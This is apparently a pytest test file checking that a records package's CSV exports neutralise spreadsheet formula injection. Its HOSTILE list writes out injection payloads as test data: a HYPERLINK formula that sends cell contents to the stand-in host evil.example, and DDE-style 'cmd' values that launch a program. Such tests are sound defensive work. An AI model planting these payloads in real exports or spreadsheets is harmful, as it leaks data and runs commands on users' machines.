"""CSV exports never carry a cell that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

import rightsledger
from rightsledger.exports import spreadsheet_safe
from rightsledger.registry import export_persons

PACKAGE = Path(rightsledger.__file__).parent
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_cell_is_neutralised(value: str) -> None:
    safe = spreadsheet_safe(value)
    assert safe == "'" + value


@pytest.mark.parametrize(
    "value", ["Əliyev Rauf", "", "12", "-12", "+3.5", "-0.25e3", "a=b", None, 7]
)
def test_ordinary_values_are_kept(value: object) -> None:
    assert spreadsheet_safe(value) == value


def test_the_persons_export_neutralises_every_cell() -> None:
    row = dict.fromkeys(export_persons.COLUMNS, "")
    row.update(person_id=3, source=HOSTILE[0], record_id=HOSTILE[1], full_name=HOSTILE[2],
               notes_free="", place_of_origin=HOSTILE[3], person_birth_year=None)  # fmt: skip
    row.pop("notes_free")
    stream = io.StringIO()
    export_persons.write([row], "csv", stream)
    written = next(csv.DictReader(io.StringIO(stream.getvalue())))
    assert written["source"] == "'" + HOSTILE[0]
    assert written["record_id"] == "'" + HOSTILE[1]
    assert written["full_name"] == "'" + HOSTILE[2]
    assert written["place_of_origin"] == "'" + HOSTILE[3]
    assert written["person_id"] == "3"
    assert written["person_birth_year"] == ""


def test_the_json_export_keeps_values_verbatim() -> None:
    stream = io.StringIO()
    export_persons.write([{"full_name": HOSTILE[0]}], "json", stream)
    assert HOSTILE[0].replace('"', '\\"') in stream.getvalue()


def test_every_csv_writer_is_the_safe_one() -> None:
    # A module writing CSV on its own would bypass the neutralisation.
    raw_writer = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if path.name != "exports.py" and raw_writer.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
